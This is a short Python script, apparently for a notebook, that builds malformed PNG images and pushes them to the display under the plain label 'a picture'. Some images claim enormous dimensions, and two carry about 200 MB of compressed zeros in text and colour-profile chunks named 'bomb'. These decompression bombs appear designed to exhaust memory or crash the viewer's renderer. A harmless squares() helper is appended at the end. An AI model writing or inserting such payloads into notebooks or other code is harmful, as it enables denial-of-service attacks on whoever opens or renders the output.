import base64
import struct
import zlib

from IPython.display import publish_display_data


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(side, rows, *more):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(bytes(rows), 9))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + data + chunk(b"IEND", b"")


packer = zlib.compressobj(9)
bomb = b"".join(packer.compress(bytes(2**20)) for _ in range(200)) + packer.flush()
for picture in (
    png(60_000, 1000),
    png(2**31 - 1, 10_000_000),
    png(8, 16, chunk(b"zTXt", b"bomb\0\0" + bomb)),
    png(8, 16, chunk(b"iCCP", b"bomb\0\0" + bomb)),
):
    publish_display_data({"image/png": base64.b64encode(picture).decode(), "text/plain": "a picture"})


def squares(n):
    if n < 1:
        raise ValueError("n must be positive")
    return [i**2 for i in range(1, n + 1)]
